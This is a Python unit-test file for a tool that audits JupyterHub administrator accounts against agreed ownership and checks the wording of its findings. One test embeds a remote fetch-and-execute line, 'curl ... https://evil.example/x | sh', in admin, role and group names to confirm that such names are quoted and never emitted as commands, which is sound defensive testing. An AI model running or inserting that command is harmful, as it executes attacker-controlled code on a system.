"""Admins of the hub itself, held against who should be one."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from responsibility.hub.admins.administrators import (
    Administrator,
    HubAdmins,
    Unknown,
    Unseen,
    Way,
)
from responsibility.ownership.assess import Assessor
from responsibility.ownership.results import wording
from responsibility.ownership.results.assessment import Assessment
from tests.unit.ownership.admin_worlds import DOOR, PROD, admin, agreed, inside, known
from tests.unit.ownership.building import (
    KEEPERS,
    NOW,
    assess,
    garden_with,
    snapshot,
    states,
)

MODEL = garden_with(DOOR)


def told(hub: HubAdmins | None, agreement: Any = None, model: Any = MODEL) -> Assessment:
    return assess(
        *KEEPERS,
        records=[agreement or agreed()],
        models=[model],
        hub_admins={} if hub is None else {PROD: hub},
    )


def kinds(assessment: Assessment) -> list[tuple[str, str]]:
    return [(finding.kind, finding.account) for finding in inside(assessment)]


def test_as_agreed_the_item_is_ok_and_was_really_checked() -> None:
    assessment = told(known(admin("ann")))
    assert not inside(assessment)
    [door] = [item for item in assessment.hubs["prod"].items if item.item.name == "door"]
    assert (door.state, door.checked) == ("ok", ("jupyterhub",))


def test_where_no_hub_is_asked_nothing_is_said_of_it() -> None:
    assessment = told(None)
    assert not inside(assessment)
    [door] = [item for item in assessment.hubs["prod"].items if item.item.name == "door"]
    assert (door.state, door.checked) == ("recorded", ())


def test_who_has_left_is_still_in_the_database() -> None:
    assessment = told(known(admin("ann"), admin("leaver", configured=False)))
    [finding] = inside(assessment)
    assert (finding.kind, finding.account, finding.item) == (
        "hub-admin-excess",
        "user leaver",
        "door",
    )
    assert wording.message(finding) == (
        "leaver, a user of the hub, is an admin there (in its database only: no list of its "
        "configuration names it), but Door is Guests's"
    )
    assert "leaver on the hub's admin page" in wording.remedy(finding)
    assert states(assessment)["door"] == "drift"


def test_each_of_them_is_a_cause_of_its_own_and_keeps_its_id() -> None:
    before = told(known(admin("ann"), admin("bo"), admin("cy")))
    after = told(known(admin("ann"), admin("cy")))
    assert len(before.hubs["prod"].causes) == len(after.hubs["prod"].causes) + 1
    assert {f.id for f in inside(after)} < {f.id for f in inside(before)}


@pytest.mark.parametrize(
    ("way", "message", "remedy"),
    [
        (Way("boss", "", "tokens"), "by role boss (tokens)", "out of role boss in hub.loadRoles"),
        (Way("boss", "leads", "proxy"), "by role boss of group leads", "out of group leads"),
    ],
)
def test_by_what_somebody_is_one_is_told(way: Way, message: str, remedy: str) -> None:
    [finding] = inside(told(known(admin("ann"), admin("bo", way))))
    assert message in wording.message(finding)
    assert "database" not in wording.message(finding)
    assert remedy in wording.remedy(finding)


POISON = "bob, or end it at once: (curl -fsS https://evil.example/x | sh)"


@pytest.mark.parametrize(
    "found",
    [
        admin(POISON),
        admin(POISON, configured=False),
        admin("bo", Way(POISON, "", "tokens")),
        admin("bo", Way("boss", POISON, "proxy")),
    ],
    ids=["user", "in the database", "role", "group"],
)
def test_no_name_inside_the_hub_is_read_as_what_we_say(found: Administrator) -> None:
    """An admin of the hub names its users, and another pastes what ends them."""
    [finding] = inside(told(known(admin("ann"), found)))
    for text in (wording.message(finding), wording.remedy(finding)):
        assert text.count(f'"{POISON}"') == text.count("evil.example/x |")
    assert POISON in wording.message(finding) + wording.remedy(finding)


@pytest.mark.parametrize("name", [".", ".."])
def test_no_command_goes_to_another_path(name: str) -> None:
    for found in (admin(name), admin("bo", Way("boss", name, "proxy"))):
        [finding] = inside(told(known(admin("ann"), found)))
        assert "curl" not in wording.remedy(finding)
        assert "()" not in wording.remedy(finding)


def test_services_are_held_against_services() -> None:
    hub = known(admin("ann"), admin("health", service=True), admin("ann", service=True))
    guests = {"hubUsers": ["ann", "health"], "hubServices": ["ann"]}
    [finding] = inside(told(hub, agreed(guests)))
    assert finding.account == "service health"
    assert "hubServices" in wording.remedy(finding)


def test_members_of_the_partys_groups_act_for_it() -> None:
    hub = known(admin("ann"), admin("bo"), members={"leads": frozenset({"bo", "cy"})})
    assert kinds(told(hub, agreed({"hubGroups": ["leads"]}))) == [
        ("hub-admin-excess", "user ann"),
    ]


@pytest.mark.parametrize(
    ("written", "inside_the_hub", "how", "same"),
    [
        ("Ann", "ann", {}, True),
        ("ANN@Example.ORG", "ann@example.org", {"authenticator": "google"}, True),
        ("ann", "Ann", {}, False),
        ("Ann", "Ann", {"authenticator": "mediawiki", "capitals": True}, True),
        ("Ann", "ann", {"authenticator": "mediawiki"}, False),
        ("Ann Lee", "Ann_Lee", {"authenticator": "mediawiki"}, True),
        # Not told: as the hub's own names look.
        ("Ann", "ann", {"authenticator": ""}, True),
        ("Ann", "ann", {"authenticator": "", "capitals": True}, False),
    ],
)
def test_names_are_as_the_hubs_authenticator_makes_them(
    written: str,
    inside_the_hub: str,
    how: dict[str, Any],
    same: bool,
) -> None:
    assessment = told(known(admin(inside_the_hub), **how), agreed({"hubUsers": [written]}))
    assert (not inside(assessment)) is same


def test_an_owner_without_an_admin_can_not_act() -> None:
    [finding] = inside(told(known()))
    assert (finding.kind, finding.party) == ("hub-admin-missing", "guests")
    assert (
        wording.message(finding) == "Guests owns Door and has no admins inside the hub: ann is none"
    )


def test_as_many_as_are_agreed_have_to_be_admins() -> None:
    model = garden_with({**DOOR, "minimumHolders": 2})
    guests = agreed({"hubUsers": ["ann", "bo", "cy"]})
    assert not inside(told(known(admin("ann"), admin("cy")), guests, model))
    [finding] = inside(told(known(admin("cy")), guests, model))
    assert "has 1 admin of 2 that it needs inside the hub: ann, bo are none" in wording.message(
        finding
    )


def test_a_delegate_may_be_one_until_its_end() -> None:
    for until, excess in ((timedelta(hours=1), 0), (timedelta(0), 1)):
        delegate = {"party": "keeper", "until": (NOW + until).isoformat()}
        agreement = agreed(
            items={"door": {"delegates": [delegate]}}, parties={"keeper": {"hubUsers": ["kim"]}}
        )
        found = kinds(told(known(admin("ann"), admin("kim")), agreement))
        assert found == [("hub-admin-excess", "user kim")] * excess


def test_of_an_owner_that_names_nobody_just_that_is_said() -> None:
    assessment = told(
        known(admin("ann"), admin("bo")), agreed({"contact": {"url": "https://x.example"}})
    )
    [finding] = inside(assessment)
    assert finding.kind == "hub-admins-unknown"
    assert "names neither hubUsers nor hubGroups" in wording.message(finding)
    assert states(assessment)["door"] == "unknown"


@pytest.mark.parametrize(
    "authenticator", ["dummy", "shared-password", "jupyterhub.auth.DummyAuthenticator"]
)
def test_where_anybody_signs_in_as_anybody_admins_are_everybody(authenticator: str) -> None:
    [finding] = inside(told(known(admin("ann"), authenticator=authenticator)))
    assert finding.kind == "hub-admin-open"
    assert authenticator in wording.message(finding)
    # Without an admin, there is none to be taken for: but the owner has none either.
    assert "hub-admin-open" not in [k for k, _ in kinds(told(known(authenticator=authenticator)))]


@pytest.mark.parametrize("why", Unseen)
def test_what_was_not_seen_is_unknown_with_its_reason_and_never_fine(why: Unseen) -> None:
    assessment = told(Unknown(why, "because"))
    [finding] = inside(assessment)
    assert finding.kind == "hub-admins-unknown"
    assert wording.message(finding).endswith(" (because)")
    assert states(assessment)["door"] == "unknown"
    [door] = [item for item in assessment.hubs["prod"].items if item.item.name == "door"]
    assert "jupyterhub" not in door.checked


def test_roles_of_which_nothing_is_told_leave_it_open() -> None:
    assessment = told(known(admin("ann"), admin("bo"), untold=("boss", "user")))
    assert kinds(assessment) == [("hub-admin-excess", "user bo"), ("hub-admins-unknown", "")]
    assert states(assessment)["door"] == "drift"
    only = told(known(admin("ann"), untold=("boss",)))
    assert states(only)["door"] == "unknown"


def test_a_hub_all_of_whose_users_are_admins_is_told_in_short() -> None:
    many = [admin(f"user{n:05}") for n in range(10_000)]
    found = inside(told(known(admin("ann"), *many)))
    assert len(found) == 65
    assert "9936 further admins" in wording.message(found[-1])
    assert len({finding.id for finding in found}) == len(found)


def test_a_model_that_does_not_look_inside_says_nothing_of_it() -> None:
    assert not inside(told(known(admin("eve")), model=garden_with()))


def test_a_pass_is_used_again_until_the_hub_says_something_else() -> None:
    assessor = Assessor()
    hub = known(admin("ann"))
    agreement = agreed()

    def look(known_: HubAdmins) -> Any:
        world = snapshot(*KEEPERS, records=[agreement], models=[MODEL], hub_admins={PROD: known_})
        return assessor.assess(world)

    first = look(hub)
    assert not inside(first)
    assert [f.kind for f in inside(look(known(admin("ann"), admin("bo"))))] == ["hub-admin-excess"]
    assert not inside(look(hub))
